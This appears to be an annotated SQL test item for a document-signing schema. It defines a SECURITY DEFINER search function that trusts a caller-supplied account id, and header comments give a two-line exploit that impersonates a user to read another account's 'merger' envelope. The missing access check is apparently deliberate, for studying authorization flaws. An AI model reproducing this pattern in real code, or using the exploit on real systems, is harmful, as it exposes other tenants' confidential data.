-- The search takes the account as an argument and runs as its owner: nobody asks whether the caller belongs
-- to it.
-- about: search_envelopes, envelopes
-- as: hf_countersign_app
-- exploit: SET request.jwt.claims = '{"sub": "auth0|ann"}';
-- exploit: SELECT * FROM sign.search_envelopes(12, 'merger');
-- shows: Road-secret merger
CREATE INDEX envelopes_words_idx ON sign.envelopes
  USING gin (to_tsvector('simple', subject || ' ' || COALESCE(message, '')));
CREATE FUNCTION sign.search_envelopes(p_account bigint, p_words text)
RETURNS TABLE (envelope_no integer, subject text, status text)
LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = sign, pg_temp
AS $$
  SELECT e.envelope_no, e.subject, e.status
  FROM sign.envelopes e
  WHERE e.account_id = p_account
    AND to_tsvector('simple', e.subject || ' ' || COALESCE(e.message, '')) @@ plainto_tsquery('simple',
      p_words)
$$;
REVOKE EXECUTE ON FUNCTION sign.search_envelopes(bigint, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION sign.search_envelopes(bigint, text) TO hf_countersign_app;
